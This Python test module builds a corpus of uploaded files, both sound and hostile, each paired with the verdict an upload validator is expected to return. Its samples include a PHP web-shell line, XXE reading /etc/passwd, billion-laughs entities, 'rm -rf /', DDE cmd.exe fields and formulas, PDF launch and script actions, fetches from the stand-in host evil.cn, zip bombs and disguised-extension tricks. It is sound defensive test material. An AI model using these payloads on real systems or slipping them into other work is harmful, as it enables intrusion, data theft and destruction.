"""The verdict table: files that people and attackers send, and what must become of each.

A verdict is "in", or the code of the refusal. The files are made here, none lies in the sources.
"""

import gzip
import tarfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO

import pikepdf
from PIL import Image

from tests.uploads import making as make
from tests.uploads.making import WORD, action, docx, field, link, pdf, picture, xlsx, zipped

HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PHP = b"<?php system($_GET['c']); ?>"
XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
PROGRAM = b"MZ" + b"\0" * 200
Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array


@dataclass(frozen=True)
class Sample:
    """One file of the corpus."""

    what: str
    name: str
    content: Callable[[], bytes]
    verdict: str


def _sound() -> Iterator[Sample]:
    kinds = {
        "jpg": lambda: picture("JPEG"),
        "jpeg": lambda: picture("JPEG", progressive=True),
        "png": lambda: picture("PNG"),
        "webp": lambda: picture("WEBP"),
        "pdf": pdf,
        "docx": docx,
        "xlsx": xlsx,
        "txt": lambda: "三月工资 5000 元\r\n".encode(),
    }
    for ending, content in kinds.items():
        yield Sample(f"a sound {ending}", f"工资条.{ending}", content, "in")
    yield Sample("upper case", "身份证.JPG", lambda: picture("JPEG"), "in")
    yield Sample("two dots", "3.15.截图.png", lambda: picture("PNG"), "in")
    yield Sample("a photograph with its place", "现场.jpg", make.photograph, "in")
    yield Sample("grey", "灰.jpg", lambda: picture("JPEG", mode="L"), "in")
    yield Sample("print colours", "印刷.jpg", lambda: picture("JPEG", mode="CMYK"), "in")
    yield Sample("see-through", "透明.png", lambda: picture("PNG", mode="RGBA"), "in")
    yield Sample("palette", "调色.png", lambda: picture("PNG", mode="P"), "in")
    yield Sample("black and white", "黑白.png", lambda: picture("PNG", mode="1"), "in")
    yield Sample("GB 18030", "聊天.txt", lambda: "欠薪说明：三月。".encode("gb18030"), "in")
    yield Sample("UTF-8 with a mark", "记录.txt", lambda: "\ufeff考勤".encode(), "in")
    yield Sample("text about programs", "说明.txt", lambda: b"if a < b: print(a)", "in")
    web = lambda: pdf(lambda it: link(it, action("/URI", URI="https://www.gov.cn/")))  # noqa: E731
    yield Sample("a PDF with a web link", "公告.pdf", web, "in")
    yield Sample("compressed objects", "扫描.pdf", _packed_objects, "in")
    yield Sample("opens at a page", "合同.pdf", lambda: pdf(_opens_at_page), "in")
    clicked = {
        "word/_rels/document.xml.rels": make.relations(("hyperlink", "https://a.cn", "External"))
    }
    yield Sample("a Word link", "函.docx", lambda: docx(extra=dict(clicked)), "in")
    yield Sample("a page number", "稿.docx", lambda: docx(field(" PAGE ")), "in")
    yield Sample("a sum", "工资表.xlsx", lambda: xlsx(1, 2, "=SUM(A1:B1)"), "in")
    yield Sample("only an ending", ".pdf", pdf, "in")
    yield Sample("a name that is a path", "../../etc/工资.pdf", pdf, "in")


def _packed_objects() -> bytes:
    return pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _opens_at_page(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])


def _not_taken() -> Iterator[Sample]:
    endings = (
        *("html", "htm", "svg", "xml", "xht", "xhtml", "js", "exe", "bat", "msi", "dll", "ps1"),
        *("zip", "rar", "7z", "gz", "tar", "docm", "xlsm", "xlsb", "doc", "xls", "csv", "rtf"),
        *("heic", "gif", "bmp", "tiff", "mp3", "mp4", "pptx", "ofd", "php", "lnk", "jar", "eml"),
    )
    for ending in endings:
        yield Sample(f"an ending not taken: {ending}", f"文件.{ending}", pdf, "kind")
    yield Sample("no ending", "工资条", pdf, "kind")
    yield Sample("a hidden file", ".htaccess", pdf, "kind")
    yield Sample("double ending", "工资条.pdf.exe", pdf, "kind")
    yield Sample("ending with a blank", "工资条.exe ", pdf, "kind")
    yield Sample("turned around", "工资\u202efdp.exe", pdf, "kind")
    yield Sample("nothing inside", "空.pdf", lambda: b"", "empty")


def _disguised() -> Iterator[Sample]:
    for ending in ("jpg", "png", "pdf", "webp", "docx", "xlsx"):
        yield Sample(f"HTML as {ending}", f"a.{ending}", lambda: HTML, "disguised")
    yield Sample("SVG as png", "a.png", lambda: SVG, "disguised")
    yield Sample("a program as pdf", "a.pdf", lambda: PROGRAM, "disguised")
    yield Sample("a program as txt", "a.txt", lambda: PROGRAM, "program")
    yield Sample("a shell script as txt", "a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "program")
    yield Sample("HTML as txt", "a.txt", lambda: HTML, "two_natures")
    yield Sample("SVG as txt", "a.txt", lambda: SVG, "two_natures")
    yield Sample("PHP as txt", "a.txt", lambda: PHP, "two_natures")
    yield Sample("bytes as txt", "a.txt", lambda: bytes(range(256)) * 4, "disguised")
    yield Sample("a PNG as jpg", "a.jpg", lambda: picture("PNG"), "disguised")
    yield Sample("a PDF as docx", "a.docx", pdf, "disguised")
    yield Sample("a zip as docx", "a.docx", lambda: zipped({"a.txt": "x"}), "damaged")
    yield Sample("a workbook as docx", "a.docx", xlsx, "damaged")
    yield Sample("gzip as pdf", "a.pdf", lambda: gzip.compress(b"x"), "disguised")
    yield Sample("tar as txt", "a.txt", _tar, "disguised")
    yield Sample(
        "an old Word file as docx", "a.docx", lambda: b"\xd0\xcf\x11\xe0" * 99, "disguised"
    )


def _tar() -> bytes:
    out = BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"))
    return out.getvalue()


def _two_natures() -> Iterator[Sample]:
    yield Sample("GIF and script", "a.jpg", lambda: b"GIF89a/*" + b"*/=1;alert(1)", "disguised")
    yield Sample("JPEG head and script", "a.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML, "two_natures")
    yield Sample("JPEG and page", "a.jpg", lambda: picture() + HTML, "two_natures")
    yield Sample("JPEG and PHP", "a.jpg", lambda: picture(comment=PHP), "two_natures")
    yield Sample("JPEG and archive", "a.jpg", lambda: picture() + zipped({"a": "b"}), "two_natures")
    yield Sample(
        "PNG and archive", "a.png", lambda: picture("PNG") + zipped({"a": "b"}), "two_natures"
    )
    yield Sample("PNG and PDF", "a.png", lambda: picture("PNG") + pdf(), "two_natures")
    yield Sample("PDF and page", "a.pdf", lambda: pdf() + HTML, "two_natures")
    yield Sample("PDF and archive", "a.pdf", lambda: pdf() + zipped({"a": "b"}), "two_natures")
    yield Sample("PDF after a page", "a.pdf", lambda: HTML + pdf(), "disguised")
    yield Sample("PDF and a tail", "a.pdf", lambda: pdf() + b"x" * 5000, "damaged")
    yield Sample("archive and a tail", "a.docx", lambda: docx() + HTML, "damaged")
    yield Sample("a head before the archive", "a.docx", lambda: b"MZ" + docx(), "disguised")


def _pictures() -> Iterator[Sample]:
    yield Sample(
        "a picture of 60000 × 60000",
        "a.png",
        lambda: make.huge_png(60000, 60000),
        "too_many_pixels",
    )
    yield Sample("one very long line", "a.png", lambda: make.huge_png(40000, 10), "too_many_pixels")
    yield Sample("a false size", "a.png", lambda: make.huge_png(8000, 8000), "damaged")
    yield Sample("half a JPEG", "a.jpg", lambda: picture(size=(800, 600))[:2500], "damaged")
    yield Sample("half a PNG", "a.png", lambda: picture("PNG", size=(800, 600))[:200], "damaged")
    yield Sample("only a head", "a.jpg", lambda: b"\xff\xd8\xff", "damaged")
    yield Sample("RIFF that is no picture", "a.webp", lambda: b"RIFF\x04\0\0\0WAVE", "damaged")
    yield Sample("a moving PNG", "a.png", _moving, "animated")


def _moving() -> bytes:
    out = BytesIO()
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def _pdfs() -> Iterator[Sample]:
    script = action("/JavaScript", JS="app.alert(1)")
    active: dict[str, Callable[[pikepdf.Pdf], None]] = {
        "opens with a script": lambda it: it.Root.__setattr__("OpenAction", script),
        "scripts by name": lambda it: it.Root.__setattr__(
            "Names", Dictionary(JavaScript=Dictionary(Names=Array(["a", script])))
        ),
        "launches": lambda it: link(it, action("/Launch", F="cmd.exe")),
        "script in a link": lambda it: link(it, script),
        "file address": lambda it: link(it, action("/URI", URI="file:///etc/passwd")),
        "sends a form": lambda it: link(it, action("/SubmitForm", F="https://evil.cn")),
        "goes to another file": lambda it: link(it, action("/GoToR", F="\\\\evil\\share")),
        "acts on a page": lambda it: it.pages[0].obj.__setattr__("AA", Dictionary(O=script)),
        "acts in the catalogue": lambda it: it.Root.__setattr__("AA", Dictionary(WC=script)),
        "carries a file": _attach,
        "an XFA form": lambda it: it.Root.__setattr__(
            "AcroForm", Dictionary(XFA=it.make_stream(b"<xdp/>"), Fields=Array([]))
        ),
        "rich media": lambda it: it.pages[0].obj.__setattr__(
            "Annots", Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)])
        ),
        "a chain of actions": lambda it: link(
            it, action("/GoTo", D=Array([0, Name.Fit]), Next=script)
        ),
    }
    for what, alter in active.items():
        yield Sample(f"a PDF that {what}", "a.pdf", lambda alter=alter: pdf(alter), "active")
    hidden = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    scripted = lambda it: link(it, action("/URI", URI="javascript:alert(1)"))  # noqa: E731
    yield Sample("a script as an address", "a.pdf", lambda: pdf(scripted), "two_natures")
    yield Sample("the same, packed", "a.pdf", lambda: pdf(scripted, **hidden), "active")
    opening = active["opens with a script"]
    yield Sample("a script in packed objects", "a.pdf", lambda: pdf(opening, **hidden), "active")
    yield Sample("a script by an escaped name", "a.pdf", _escaped_name, "active")
    locked = pikepdf.Encryption(owner="a", user="b")
    yield Sample("a locked PDF", "a.pdf", lambda: pdf(encryption=locked), "encrypted")
    owned = pikepdf.Encryption(owner="a", user="")
    yield Sample("a restricted PDF", "a.pdf", lambda: pdf(encryption=owned), "encrypted")
    yield Sample("half a PDF", "a.pdf", lambda: pdf()[:300], "damaged")
    yield Sample("a PDF without a table", "a.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "damaged")
    yield Sample("a PDF whose table lies", "a.pdf", _false_table, "damaged")
    yield Sample("a PDF without pages", "a.pdf", _no_pages, "pages")


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["a.exe"] = PROGRAM


def _escaped_name() -> bytes:
    """A script whose name is written with codes, which every reader turns back."""
    opening = action("/JavaScript", JS="app.alert(1)")

    def alter(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = opening

    whole = pdf(alter, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    place = whole.index(b"/JavaScript")
    table = whole.index(b"xref")
    # The blanks make up for the longer name, so that the table of places stays true.
    grown = whole[:place] + b"/J#61vaScript" + whole[place + 11 : table]
    return grown.replace(b" >>", b">>", 2) + whole[table:]


def _false_table() -> bytes:
    return pdf().replace(b"startxref\n", b"startxref\n9")


def _no_pages() -> bytes:
    out = BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def _word() -> Iterator[Sample]:
    macro = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
    yield Sample("macros", "a.docx", lambda: docx(extra=dict(macro)), "active")
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield Sample("a docm by another name", "a.docx", lambda: docx(main=enabled), "active")
    template = f"{WORD}.template.main+xml"
    yield Sample("a template", "a.docx", lambda: docx(main=template), "active")
    yield Sample("outside entity", "a.docx", lambda: docx(doctype=XXE), "xml_entities")
    yield Sample("billion laughs", "a.docx", lambda: docx(doctype=LAUGHS), "xml_entities")
    yield Sample("a DTD", "a.docx", lambda: docx(doctype="<!DOCTYPE w>"), "xml_entities")
    yield Sample("DDE", "a.docx", lambda: docx(field(r'DDEAUTO c:\\cmd.exe "/k calc"')), "active")
    yield Sample("DDE in pieces", "a.docx", lambda: docx(field("DD", "EAU", "TO cmd")), "active")
    simple = '<w:p><w:fldSimple w:instr=" DDE cmd "/></w:p>'
    yield Sample("DDE as an attribute", "a.docx", lambda: docx(simple), "active")
    fetch = field('INCLUDEPICTURE "https://evil.cn/a.png"')
    yield Sample("a picture from outside", "a.docx", lambda: docx(fetch), "active")
    outside = {
        "a template from outside": ("attachedTemplate", "https://evil.cn/a.dotm"),
        "an object from outside": ("oleObject", "https://evil.cn/a.doc"),
        "a picture relation from outside": ("image", "https://evil.cn/a.png"),
        "a frame from outside": ("frame", "https://evil.cn/"),
        "a share of a network": ("hyperlink", "file://evil/share"),
        "a script as a link": ("hyperlink", "javascript:alert(1)"),
    }
    for what, (kind, target) in outside.items():
        rels = {"word/_rels/document.xml.rels": make.relations((kind, target, "External"))}
        yield Sample(what, "a.docx", lambda rels=rels: docx(extra=dict(rels)), "active")
    carried = {
        "an object": "word/embeddings/oleObject1.bin",
        "ActiveX": "word/activeX/activeX1.xml",
        "an archive": "word/media/a.zip",
        "a document": "word/embeddings/a.docx",
        "a page": "word/afchunk.html",
        "a program": "word/media/a.exe",
    }
    for what, part in carried.items():
        extra: dict[str, bytes | str] = {part: b"<x/>"}
        yield Sample(f"carries {what}", "a.docx", lambda extra=extra: docx(extra=extra), "active")
    hidden: dict[str, bytes | str] = {"word/media/image1.png": PROGRAM}
    yield Sample("a program as its picture", "a.docx", lambda: docx(extra=dict(hidden)), "active")
    climbing: dict[str, bytes | str] = {"../../evil.xml": "<x/>"}
    yield Sample("a part that climbs", "a.docx", lambda: docx(extra=dict(climbing)), "damaged")
    yield Sample("a symbolic link", "a.docx", make.symlink_archive, "damaged")
    yield Sample("a name twice", "a.docx", make.twice_named, "damaged")
    yield Sample("an encrypted part", "a.docx", lambda: make.encrypted_flag(docx()), "encrypted")
    yield Sample("half an archive", "a.docx", lambda: docx()[:400], "damaged")
    broken = docx("<w:unclosed>")
    yield Sample("broken XML", "a.docx", lambda: broken, "damaged")


def _excel() -> Iterator[Sample]:
    call = "=cmd|'/c calc'!A0"
    yield Sample("DDE in a formula", "a.xlsx", lambda: xlsx(call), "active")
    fetch = '=WEBSERVICE("https://evil.cn/"&A1)'
    yield Sample("a formula that fetches", "a.xlsx", lambda: xlsx(1, fetch), "active")
    parts: dict[str, bytes | str] = {
        "xl/vbaProject.bin": b"x",
        "xl/externalLinks/externalLink1.xml": "<x/>",
        "xl/connections.xml": "<x/>",
        "xl/macrosheets/sheet1.xml": "<x/>",
        "xl/embeddings/oleObject1.bin": b"x",
        "customUI/customUI.xml": "<x/>",
    }
    for part, content in parts.items():
        extra = {part: content}
        yield Sample(
            f"carries {part}",
            "a.xlsx",
            lambda extra=extra: make.with_parts(xlsx(), extra),
            "active",
        )
    yield Sample(
        "outside entity",
        "a.xlsx",
        lambda: make.with_parts(xlsx(), {"xl/x.xml": f"{XXE}<a/>"}),
        "xml_entities",
    )
    bomb: dict[str, bytes | str] = {
        "xl/worksheets/sheet2.xml": b"<a>" + b" " * 100_000_000 + b"</a>"
    }
    yield Sample(
        "97 kB that become 100 MB", "a.xlsx", lambda: make.with_parts(xlsx(), bomb), "bomb"
    )
    liar = {"xl/media/image1.png": b"\0" * 3_000_000}
    yield Sample(
        "a part that is larger than it says",
        "a.xlsx",
        lambda: make.lying_size(make.with_parts(xlsx(), dict(liar)), "xl/media/image1.png", 1000),
        "damaged",
    )
    many: dict[str, bytes | str] = {f"xl/media/{number}.png": b"x" for number in range(2100)}
    yield Sample("too many parts", "a.xlsx", lambda: make.with_parts(xlsx(), many), "bomb")


CORPUS: list[Sample] = [
    *_sound(),
    *_not_taken(),
    *_disguised(),
    *_two_natures(),
    *_pictures(),
    *_pdfs(),
    *_word(),
    *_excel(),
]
